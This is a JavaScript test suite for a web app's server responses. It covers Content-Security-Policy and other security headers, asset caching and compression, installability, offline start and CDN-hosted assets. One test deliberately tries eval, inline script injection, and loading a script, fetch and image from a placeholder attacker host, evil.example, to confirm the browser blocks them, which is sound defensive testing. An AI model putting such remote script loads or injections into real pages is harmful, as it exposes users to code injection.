/** What the server sends with the page: a strict policy, files that never change and are small, a page to install, a CDN. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import { DIST, Server } from './support/server.mjs';
import { stage } from './support/stage.mjs';

const test = stage();

const UNPACK = { br: zlib.brotliDecompressSync, gzip: zlib.gunzipSync };
const files = fs.readdirSync(DIST, { recursive: true }).filter((name) => /\.(html|js|css|json|svg|png|webmanifest|woff2)$/.test(name)).map((name) => `/${name}`);

/** An answer as it came, not unpacked. */
function get(server, file, headers = {}) {
  return new Promise((resolve, reject) => {
    http.get({ port: server.port, host: '127.0.0.1', path: file, headers, agent: false }, (response) => {
      const pieces = [];
      response.on('data', (piece) => pieces.push(piece));
      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers, body: Buffer.concat(pieces) }));
    }).on('error', reject);
  });
}

test('every file comes with a strict policy, nosniff and no referrer', async ({ server }) => {
  assert.ok(files.length > 20);
  for (const file of ['/', ...files]) {
    const { status, headers } = await get(server, file);
    assert.equal(status, 200, file);
    assert.equal(headers['x-content-type-options'], 'nosniff', file);
    assert.equal(headers['referrer-policy'], 'no-referrer', file);
    const policy = Object.fromEntries(headers['content-security-policy'].split(';').map((one) => one.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources.join(' ')]));
    assert.equal(policy['default-src'], "'none'");
    for (const name of ['script-src', 'style-src', 'connect-src', 'worker-src', 'manifest-src']) assert.equal(policy[name], "'self'", `${file} ${name}`);
    assert.equal(policy['base-uri'], "'none'");
    assert.equal(policy['frame-ancestors'], "'none'");
    assert.equal(policy['require-trusted-types-for'], "'script'");
    assert.doesNotMatch(headers['content-security-policy'], /unsafe|https?:|\*/);
  }
});

test('answers of the API cannot be taken for a page', async ({ server }) => {
  for (const file of ['/v1/users/me', '/v1/openapi.json', '/healthz', '/nowhere.html']) {
    const { headers } = await get(server, file);
    assert.equal(headers['x-content-type-options'], 'nosniff', file);
    assert.doesNotMatch(headers['content-type'] ?? '', /html/, file);
  }
});

test('the page has no inline script, style or handler', async ({ server }) => {
  const page = (await get(server, '/')).body.toString();
  assert.doesNotMatch(page, /<script(?![^>]*\ssrc=)/i);
  assert.doesNotMatch(page, /<style|\sstyle=|\son\w+=|javascript:/i);
  for (const [, address] of page.matchAll(/(?:src|href)="([^"]+)"/g)) assert.match(address, /^\/[^/]/);
});

test('hashed files never change and come packed; the page itself is asked for again', async ({ server }) => {
  const assets = files.filter((file) => file.startsWith('/assets/'));
  for (const file of assets) {
    assert.match(file, /-[\w-]{8}\.\w+$/, 'the name holds a hash');
    const plain = await get(server, file);
    assert.equal(plain.headers['cache-control'], 'public, max-age=31536000, immutable', file);
    assert.equal(plain.headers['content-encoding'], undefined);
    assert.match(plain.headers.vary, /accept-encoding/i);
    if (plain.body.length < 1_024) continue;
    for (const coding of ['br', 'gzip']) {
      const packed = await get(server, file, { 'accept-encoding': coding });
      assert.equal(packed.headers['content-encoding'], coding, file);
      assert.ok(packed.body.length < plain.body.length);
      assert.ok(UNPACK[coding](packed.body).equals(plain.body), file);
    }
    assert.equal((await get(server, file, { 'accept-encoding': 'gzip, deflate, br, zstd' })).headers['content-encoding'], 'br');
  }
  for (const file of ['/', '/index.html', '/sw.js', '/manifest.webmanifest']) {
    const { headers } = await get(server, file);
    assert.equal(headers['cache-control'], 'no-cache', file);
    const again = await get(server, file, { 'if-none-match': headers.etag });
    assert.deepEqual([again.status, again.body.length], [304, 0]);
  }
});

test('the policy holds in the page: no eval, no inline script, no markup from text, no other host', async (scene) => {
  const ada = await scene.person('Ada');
  const done = await ada.page.evaluate(async () => {
    const refused = async (act) => {
      try {
        await act();
        return false;
      } catch {
        return true;
      }
    };
    // Out of the call that the test makes: the browser lets that one evaluate text.
    await new Promise((resolve) => setTimeout(resolve));
    const element = document.createElement('div');
    const script = document.createElement('script');
    return {
      eval: await refused(() => (0, eval)('1')),
      function: await refused(() => new Function('return 1')()),
      markup: await refused(() => (element.innerHTML = '<b>x</b>')),
      inline: await refused(() => (script.textContent = 'globalThis.ran = 1', document.head.append(script))) || globalThis.ran === undefined,
      source: await refused(() => (script.src = 'https://evil.example/x.js')),
      worker: await refused(() => navigator.serviceWorker.register('/assets/other.js')),
      fetch: await refused(() => fetch('https://evil.example/')),
      image: await new Promise((resolve) => Object.assign(new Image(), { onload: () => resolve(false), onerror: () => resolve(true), src: 'https://evil.example/x.png' })),
    };
  });
  assert.deepEqual(done, Object.fromEntries(Object.keys(done).map((name) => [name, true])));
  // The page was made to try, and the browser said so: nothing of this is the page's own fault.
  assert.ok(ada.complaints.length > 0);
  ada.complaints.length = 0;
});

test('it can be installed: manifest, icons, a start that works offline', async (scene) => {
  const ada = await scene.person('Ada');
  await ada.isInstalled();
  const session = await ada.context.newCDPSession(ada.page);
  const manifest = await session.send('Page.getAppManifest');
  assert.deepEqual(manifest.errors, []);
  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
  // The browser's contexts of a test are private windows, which install nothing whatever the page is.
  assert.deepEqual(installabilityErrors.map((one) => one.errorId).filter((id) => id !== 'in-incognito'), []);
  const said = JSON.parse(manifest.data);
  assert.deepEqual([said.display, said.start_url, said.scope], ['standalone', '/', '/']);
  for (const icon of said.icons) assert.equal((await get(scene.server, icon.src)).status, 200, icon.src);
  await ada.context.setOffline(true);
  await ada.page.goto(`${ada.address}/`);
  await ada.isIn();
});

/** Serves a build's hashed files as a CDN does, and notes what it was asked for. */
async function cdn() {
  const asked = [];
  const types = { js: 'text/javascript', css: 'text/css', json: 'application/json', svg: 'image/svg+xml', png: 'image/png' };
  const listener = http.createServer((request, response) => {
    asked.push(request.url);
    const file = path.join(DIST, request.url.replace(/^\/klatch\//, ''));
    if (!request.url.startsWith('/klatch/assets/') || !fs.existsSync(file)) return response.writeHead(404).end();
    response.writeHead(200, { 'content-type': types[file.split('.').at(-1)], 'access-control-allow-origin': '*', 'cache-control': 'public, max-age=31536000, immutable' });
    response.end(fs.readFileSync(file));
  });
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const close = () => new Promise((resolve) => (listener.close(resolve), listener.closeAllConnections()));
  return { asked, close, origin: `http://localhost:${listener.address().port}` };
}

test('with assetsBaseURL all hashed files come from there, and the page still starts offline', async (scene) => {
  const far = await cdn();
  const near = await Server.start({ settings: `web: {assetsBaseURL: "${far.origin}/klatch/"}\n` });
  try {
    const ada = await scene.stranger('Ada');
    ada.address = near.address;
    ada.allowed.add(far.origin);
    const here = [];
    ada.page.on('request', (request) => request.url().startsWith(`${near.address}/assets/`) && here.push(request.url()));
    await ada.signUp();
    await ada.page.keyboard.press('Control+k');
    await ada.page.getByRole('dialog').waitFor();
    await ada.page.keyboard.press('Escape');
    await ada.isInstalled();
    assert.deepEqual(here, []);
    assert.ok(far.asked.length > 5 && far.asked.every((one) => one.startsWith('/klatch/assets/')), far.asked.join());
    await near.kill();
    await far.close();
    await ada.page.reload();
    await ada.isIn();
    await ada.goto('#/settings/look');
    await ada.page.getByRole('radio', { name: 'Dark' }).waitFor();
    await near.start();
  } finally {
    await far.close().catch(() => undefined);
    await near.stop();
  }
});
